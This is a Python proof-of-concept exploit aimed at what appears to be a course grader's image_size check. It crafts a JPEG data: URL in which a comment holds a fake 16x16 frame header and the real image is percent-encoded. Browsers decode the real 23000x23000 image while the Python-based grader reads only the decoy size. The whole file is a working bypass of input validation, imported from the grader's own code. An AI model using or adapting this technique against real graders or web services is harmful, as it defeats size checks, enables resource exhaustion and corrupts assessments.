"""A JPEG's base64 as a data: URL body that the course's image_size and the browser decode differently.
Browsers percent-decode a data: URL's body before base64 (fetch spec; Chromium does); Python's
base64.b64decode (validate=False) drops '%' and keeps the two hex digits. The literal prefix (SOI + a COM holding a
fake 16 x 16 SOF0) is read the same by both; the rest is written as %XX escapes: the browser reads the real image
(its own SOF and every scan), the course reads hex digits, whose sextets (0-5, 52-61) never make a 0xFF byte, so no
SOF and no SOS there."""
import io, struct, base64
from PIL import Image

def real_jpeg(W, H, k=0):
    b = io.BytesIO(); Image.new("L", (16, 16), k % 256).save(b, "JPEG", quality=50); j = bytearray(b.getvalue())
    at = 2
    while True:
        m, ln = j[at+1], struct.unpack(">H", j[at+2:at+4])[0]
        if m == 0xC0:
            j[at+5:at+9] = struct.pack(">HH", H, W); break
        at += 2 + ln
    return bytes(j)

def disguise(jpeg: bytes, k=0) -> str:
    fake_sof = b"\xff\xc0\x00\x0b\x08\x00\x10\x00\x10\x01\x01\x11\x00"
    com_body = b"round42" + bytes([k % 256]) + fake_sof
    prefix = b"\xff\xd8" + b"\xff\xfe" + struct.pack(">H", len(com_body) + 2) + com_body
    while len(prefix) % 3:  # grow the comment until the prefix is whole base64 quanta
        com_body += b"."
        prefix = b"\xff\xd8" + b"\xff\xfe" + struct.pack(">H", len(com_body) + 2) + com_body
    rest = base64.b64encode(jpeg[2:]).decode()  # APP0 ... EOI of the real image
    text = base64.b64encode(prefix).decode() + "".join("%%%02X" % ord(c) for c in rest)
    if len(rest) % 2:  # keep the course's count of characters a multiple of 4 (else it reads no size at all)
        text += "%20"
    return text

if __name__ == "__main__":
    import sys
    sys.path.insert(0, (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))))
    from grader.feedback import image_size
    t = disguise(real_jpeg(23000, 23000))
    print("text", len(t), "chars; course image_size ->", image_size("image/jpeg", t))
    import urllib.parse
    raw = base64.b64decode(urllib.parse.unquote(t))
    Image.MAX_IMAGE_PIXELS = None
    print("browser's bytes (percent-decoded, then base64), PIL ->", Image.open(io.BytesIO(raw)).size)
